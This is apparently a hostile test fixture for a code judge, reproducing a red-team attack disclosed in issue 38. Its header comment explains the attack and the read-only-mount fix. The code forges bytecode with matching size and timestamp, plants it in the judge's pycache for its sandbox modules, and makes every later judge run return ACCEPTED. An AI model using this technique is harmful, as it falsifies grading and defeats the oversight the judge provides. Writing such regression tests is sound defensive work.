# Hostile (issue 38's red team, run without the sandbox): plants bytecode for modules the judge imports late
# (the sandbox's bindings, which it imports after the worker is ready) in the judge's bytecode cache
# (<cache>/pycache, which Python trusts on the source's size and time alone), so that the next judge process,
# sandboxed or not, runs it: the poisoned module leaves a mark and makes the judge accept every run.  Now the
# worker's mounts are read-only but for its own folders, whatever the sandbox.
import importlib.util
import marshal
import os
import struct
import sys
from pathlib import Path

MARK = os.environ.get("JUDGE_TEST_MARK_FILE", "/tmp/judge-poisoned")
POISON = f"""
import sys as _sys
open({MARK!r}, "w").write("the judge ran bytecode a solution wrote")
_runner = _sys.modules.get("judge.judging.runner")
if _runner is not None:
    _runner.overall_verdict = lambda results: _runner.Verdict.ACCEPTED
"""


def _plant(module: str) -> str:
    spec = importlib.util.find_spec(module)
    if not sys.pycache_prefix or spec is None or not spec.origin:
        return f"{module}: nothing to plant"
    source = Path(spec.origin)
    target = importlib.util.cache_from_source(str(source))
    code = compile(source.read_text() + POISON, str(source), "exec")
    stat = source.stat()
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(stat.st_mtime) & 0xFFFFFFFF,
                                                       stat.st_size & 0xFFFFFFFF)
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as out:
            out.write(header + marshal.dumps(code))
    except OSError as exc:
        return f"{module}: planting failed: {exc}"
    return f"{module}: planted {target}"


RESULT = "; ".join(_plant(module) for module in ("landlockpy", "pyseccomp"))


def solve(input, output, rows, cols):
    output.copy_(input.T)
    print(RESULT, flush=True)
